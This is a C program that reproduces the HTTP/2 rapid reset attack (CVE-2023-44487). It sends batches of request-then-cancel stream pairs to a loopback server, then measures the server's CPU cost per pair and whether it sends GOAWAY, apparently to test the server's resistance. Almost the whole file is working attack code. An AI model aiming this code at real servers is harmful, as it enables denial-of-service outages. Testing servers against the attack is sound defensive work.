/*
 * rapid_reset.c - HTTP/2 rapid reset (CVE-2023-44487) against one spike server
 * on loopback: how many streams a server lets one connection open and cancel,
 * and what each costs it.
 *
 *   rapid_reset PORT PAIRS SERVER_PID
 *
 * Opens one TLS connection (ALPN h2) to 127.0.0.1:PORT and sends, in batches of
 * 50, HEADERS for GET /obj followed by RST_STREAM(CANCEL) for each stream, at
 * most PAIRS pairs, reading what the server sends between batches. Stops at
 * PAIRS, at the server's GOAWAY or when the connection closes. Prints one JSON
 * object: pairs sent, whether and when a GOAWAY came (and its error code),
 * responses started, the server's CPU time (from /proc/PID/stat) per pair.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static SSL *ssl;
static int fd, closed, goaway = -1, goaway_at = -1, sent_pairs;
static long responses;

static double cpu_s(int pid)
{
    char path[64], buf[1024];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = fopen(path, "r");
    if (!f || !fgets(buf, sizeof buf, f)) {
        if (f)
            fclose(f);
        return -1;
    }
    fclose(f);
    /* fields 14 and 15 (utime, stime) after the ")" that ends the name */
    char *p = strrchr(buf, ')');
    unsigned long ut = 0, st = 0;
    sscanf(p + 2, "%*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %lu %lu", &ut, &st);
    return (double)(ut + st) / (double)sysconf(_SC_CLK_TCK);
}

static ssize_t send_cb(nghttp2_session *s, const uint8_t *data, size_t len, int flags, void *arg)
{
    (void)s, (void)flags, (void)arg;
    for (size_t off = 0; off < len;) {
        int n = SSL_write(ssl, data + off, (int)(len - off));
        if (n > 0) {
            off += (size_t)n;
            continue;
        }
        int e = SSL_get_error(ssl, n);
        if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) {
            closed = 1;
            return NGHTTP2_ERR_CALLBACK_FAILURE;
        }
        struct pollfd p = {fd, e == SSL_ERROR_WANT_WRITE ? POLLOUT : POLLIN, 0};
        poll(&p, 1, 1000);
    }
    return (ssize_t)len;
}

static int frame_cb(nghttp2_session *s, const nghttp2_frame *f, void *arg)
{
    (void)s, (void)arg;
    if (f->hd.type == NGHTTP2_GOAWAY && goaway < 0) {
        goaway = (int)f->goaway.error_code;
        goaway_at = sent_pairs;
    }
    if (f->hd.type == NGHTTP2_HEADERS && f->headers.cat == NGHTTP2_HCAT_RESPONSE)
        responses++;
    return 0;
}

static void drain(nghttp2_session *s)
{
    uint8_t buf[16384];
    for (;;) {
        int n = SSL_read(ssl, buf, sizeof buf);
        if (n <= 0) {
            int e = SSL_get_error(ssl, n);
            if (e != SSL_ERROR_WANT_READ)
                closed = 1;
            return;
        }
        if (nghttp2_session_mem_recv(s, buf, (size_t)n) < 0) {
            closed = 1;
            return;
        }
    }
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: %s PORT PAIRS SERVER_PID\n", argv[0]);
        return 2;
    }
    int port = atoi(argv[1]), pairs = atoi(argv[2]), pid = atoi(argv[3]);
    struct sockaddr_in a = {.sin_family = AF_INET,
                            .sin_port = htons((uint16_t)port),
                            .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    fd = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0) {
        perror("connect");
        return 1;
    }
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_alpn_protos(ctx, (const unsigned char *)"\x02h2", 3);
    ssl = SSL_new(ctx);
    SSL_set_fd(ssl, fd);
    if (SSL_connect(ssl) != 1) {
        fprintf(stderr, "handshake failed\n");
        return 1;
    }
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);

    nghttp2_session_callbacks *cb;
    nghttp2_session *s;
    nghttp2_session_callbacks_new(&cb);
    nghttp2_session_callbacks_set_send_callback(cb, send_cb);
    nghttp2_session_callbacks_set_on_frame_recv_callback(cb, frame_cb);
    nghttp2_session_client_new(&s, cb, NULL);
    nghttp2_submit_settings(s, NGHTTP2_FLAG_NONE, NULL, 0);
    nghttp2_session_send(s);

    const nghttp2_nv nv[] = {
        {(uint8_t *)":method", (uint8_t *)"GET", 7, 3, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":scheme", (uint8_t *)"https", 7, 5, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":authority", (uint8_t *)"127.0.0.1", 10, 9, NGHTTP2_NV_FLAG_NONE},
        {(uint8_t *)":path", (uint8_t *)"/obj", 5, 4, NGHTTP2_NV_FLAG_NONE},
    };
    double cpu0 = cpu_s(pid);
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    while (sent_pairs < pairs && !closed && goaway < 0) {
        int32_t ids[50];
        int n = 0;
        for (; n < 50 && sent_pairs + n < pairs; n++)
            ids[n] = nghttp2_submit_request(s, NULL, nv, 4, NULL, NULL);
        if (nghttp2_session_send(s) != 0)
            break;
        for (int i = 0; i < n; i++)
            nghttp2_submit_rst_stream(s, NGHTTP2_FLAG_NONE, ids[i], NGHTTP2_CANCEL);
        if (nghttp2_session_send(s) != 0)
            break;
        sent_pairs += n;
        drain(s);
    }
    /* what the server still had to say */
    for (int i = 0; i < 20 && !closed; i++) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 50) > 0)
            drain(s);
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double cpu = cpu_s(pid) - cpu0;
    double el = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
    printf(
        "{\"pairs_sent\":%d,\"goaway_error\":%d,\"goaway_after_pairs\":%d,\"closed\":%d,\"responses\":%ld,"
        "\"seconds\":%.2f,\"server_cpu_s\":%.2f,\"server_cpu_us_per_pair\":%.1f}\n",
        sent_pairs, goaway, goaway_at, closed, responses, el, cpu,
        sent_pairs ? cpu * 1e6 / sent_pairs : 0.0);
    return 0;
}
